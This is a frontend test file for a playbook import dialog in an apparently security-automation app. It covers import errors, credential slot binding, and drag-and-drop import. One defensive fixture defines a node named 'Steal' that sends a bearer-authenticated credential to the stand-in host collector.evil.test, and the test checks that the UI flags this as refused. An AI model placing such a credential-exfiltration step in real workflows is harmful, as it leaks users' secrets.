// @vitest-environment happy-dom
import { fireEvent, render, screen, within } from '@testing-library/react';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { Playbook } from '../../../engine/format/playbook.ts';
import type { CredentialView } from '../../../host/protocol/contract.ts';
import { ShareControls } from '../../../renderer/panels/share.tsx';
import { rpc } from '../../../renderer/rpc/index.ts';
import type { FakeTransport } from '../../../renderer/rpc/fake-transport.ts';
import { useStore } from '../../../renderer/store/index.ts';
import { fakeHost, resetStore, samplePlaybook, settle } from './fixture.ts';

const credential: CredentialView = { id: 'cred-vt', name: 'VirusTotal lab', connector: 'virustotal', fields: { apiKey: { set: true } }, secretFields: ['apiKey'], updatedAt: 1 };

function pickFile(text: string, name = 'shared.playbook.json'): void {
  const input = screen.getByLabelText('Playbook file to import');
  fireEvent.change(input, { target: { files: [new File([text], name, { type: 'application/json' })] } });
}

let host: FakeTransport;
let saved: Playbook | undefined;

beforeEach(() => {
  saved = undefined;
  resetStore();
});

afterEach(() => rpc.disconnect());

/** A host that imports `imported` with one unbound VirusTotal slot, saves it, binds and reopens it. */
function importHost(imported: Playbook): FakeTransport {
  return fakeHost({
    'playbooks.import': () => ({ playbook: imported, problems: [], slots: [{ slot: 'virustotal', connector: 'virustotal', credentialId: null }] }),
    'credentials.list': () => ({ credentials: [credential] }),
    'playbooks.save': ({ playbook }) => {
      saved = playbook as Playbook;
      return { playbook: { ...(playbook as Playbook), revision: 1 }, problems: [] };
    },
    'playbooks.bind': ({ slot, credentialId }) => ({ slots: [{ slot, connector: 'virustotal', credentialId }] }),
    'playbooks.list': () => ({ playbooks: [] }),
    'playbooks.get': () => ({ playbook: { ...(saved as Playbook), revision: 1 }, problems: [], slots: [] }),
  });
}

describe('import', () => {
  it('shows every problem with its line and column, and leaves the open playbook alone', async () => {
    host = fakeHost({
      'playbooks.import': () => ({
        problems: [
          { severity: 'error', code: 'JSON_SYNTAX', message: 'Expected a comma after the value', line: 3, column: 7 },
          { severity: 'error', code: 'UNKNOWN_FIELD', message: 'nodes[0].colour is not a node field; did you mean color?', line: 9, column: 5 },
        ],
        slots: [],
      }),
    });
    const before = useStore.getState();
    render(<ShareControls />);
    pickFile('{ "format": "switchboard/playbook@1", \n "id": "x" \n "name" }');
    await settle();

    const dialog = screen.getByRole('dialog', { name: 'shared.playbook.json cannot be imported' });
    const items = within(within(dialog).getByRole('list', { name: 'Problems in shared.playbook.json' })).getAllByRole('listitem');
    expect(items.map((item) => item.querySelector('.problem-message')?.textContent)).toEqual([
      'Line 3, column 7: Expected a comma after the value.',
      'Line 9, column 5: nodes[0].colour is not a node field; did you mean color?',
    ]);
    expect(within(dialog).getByText(/Your open playbook is unchanged\./)).toBeTruthy();

    const after = useStore.getState();
    expect(after.playbook).toBe(before.playbook);
    expect(after.nodes).toBe(before.nodes);
    expect(after.edges).toBe(before.edges);
    expect(after.dirty).toBe(false);
    expect(host.sent.map((frame) => frame.method)).toEqual(['playbooks.import']);

    fireEvent.click(within(dialog).getByRole('button', { name: 'Close' }));
    expect(screen.queryByRole('dialog')).toBeNull();
  });

  it('asks to bind the credential slots of a valid file, then saves it as a new playbook and opens it', async () => {
    const imported: Playbook = { ...samplePlaybook(), id: 'shared-triage', name: 'Shared triage' };
    host = importHost(imported);
    useStore.setState({ credentials: [credential] });
    render(<ShareControls />);
    pickFile(JSON.stringify(imported));
    await settle();

    const dialog = screen.getByRole('dialog', { name: 'Import Shared triage' });
    const slot = within(dialog).getByLabelText('Slot virustotal (VirusTotal)') as HTMLSelectElement;
    expect([...slot.options].map((option) => option.textContent)).toEqual(['Leave unbound', 'VirusTotal lab']);
    fireEvent.change(slot, { target: { value: 'cred-vt' } });
    fireEvent.click(within(dialog).getByRole('button', { name: 'Save and open' }));
    await settle();

    expect(saved?.id).toBe('shared-triage');
    const bind = host.sent.find((frame) => frame.method === 'playbooks.bind');
    expect(bind?.params).toEqual({ playbookId: 'shared-triage', slot: 'virustotal', credentialId: 'cred-vt' });
    expect(useStore.getState().playbook?.id).toBe('shared-triage');
    expect(screen.queryByRole('dialog')).toBeNull();
  });

  it('binds nothing the user did not pick: no credential is pre-selected, and saving sends no binding', async () => {
    const imported: Playbook = { ...samplePlaybook(), id: 'shared-triage', name: 'Shared triage' };
    host = importHost(imported);
    useStore.setState({ credentials: [credential] });
    render(<ShareControls />);
    pickFile(JSON.stringify(imported));
    await settle();

    const dialog = screen.getByRole('dialog', { name: 'Import Shared triage' });
    expect((within(dialog).getByLabelText('Slot virustotal (VirusTotal)') as HTMLSelectElement).value).toBe('');
    fireEvent.click(within(dialog).getByRole('button', { name: 'Save and open' }));
    await settle();
    expect(saved?.id).toBe('shared-triage');
    expect(host.sent.some((frame) => frame.method === 'playbooks.bind')).toBe(false);
  });

  it('shows per slot the hosts the playbook sends the credential to, and which the chosen credential refuses', async () => {
    const http: CredentialView = { id: 'cred-api', name: 'Corp API', connector: 'http', fields: { baseUrl: 'https://api.corp.example', token: { set: true } }, secretFields: ['token'], updatedAt: 1 };
    const base = samplePlaybook();
    const imported: Playbook = {
      ...base,
      id: 'exfil',
      name: 'Looks harmless',
      credentials: { virustotal: { connector: 'virustotal' }, api: { connector: 'http' } },
      nodes: [
        ...base.nodes,
        { id: 'steal', type: 'core.http_get@1', name: 'Steal', params: { url: 'https://collector.evil.test/c', auth: 'bearer' }, credential: 'api' },
        { id: 'later', type: 'core.http_get@1', name: 'Later', params: { url: '{{ trigger.next }}', auth: 'bearer' }, credential: 'api' },
        { id: 'users', type: 'core.http_get@1', name: 'Users', params: { url: '/users', auth: 'bearer' }, credential: 'api' },
      ],
    };
    host = fakeHost({
      'playbooks.import': () => ({
        playbook: imported,
        problems: [],
        slots: [
          { slot: 'virustotal', connector: 'virustotal', credentialId: null },
          { slot: 'api', connector: 'http', credentialId: null },
        ],
      }),
      'credentials.list': () => ({ credentials: [credential, http] }),
    });
    useStore.setState({ credentials: [credential, http] });
    render(<ShareControls />);
    pickFile(JSON.stringify(imported));
    await settle();

    const dialog = screen.getByRole('dialog', { name: 'Import Looks harmless' });
    const hosts = (slot: string) => within(within(dialog).getByRole('list', { name: `Where slot ${slot} is sent` })).getAllByRole('listitem').map((item) => item.textContent);
    expect(hosts('virustotal')).toEqual(['www.virustotal.com']);
    expect(hosts('api')).toEqual(['collector.evil.test', 'a URL computed at run time (sent only if it is one of the credential’s hosts)', 'the base URL of the credential you pick']);

    fireEvent.change(within(dialog).getByLabelText('Slot api (http)'), { target: { value: 'cred-api' } });
    expect(hosts('api')).toEqual([
      'collector.evil.test — refused: not one of this credential’s hosts',
      'a URL computed at run time (sent only if it is one of the credential’s hosts)',
      'api.corp.example',
    ]);
  });

  it('reads a playbook file dropped on the window', async () => {
    host = fakeHost({ 'playbooks.import': ({ fileName }) => ({ problems: [{ severity: 'error', code: 'X', message: `Nothing in ${fileName}.` }], slots: [] }) });
    render(<ShareControls />);
    const file = new File(['{}'], 'dropped.playbook.json', { type: 'application/json' });
    const drop = new Event('drop', { bubbles: true, cancelable: true });
    Object.defineProperty(drop, 'dataTransfer', { value: { types: ['Files'], files: [file] } });
    window.dispatchEvent(drop);
    await settle();
    expect(drop.defaultPrevented).toBe(true);
    expect(screen.getByRole('dialog', { name: 'dropped.playbook.json cannot be imported' })).toBeTruthy();
  });
});
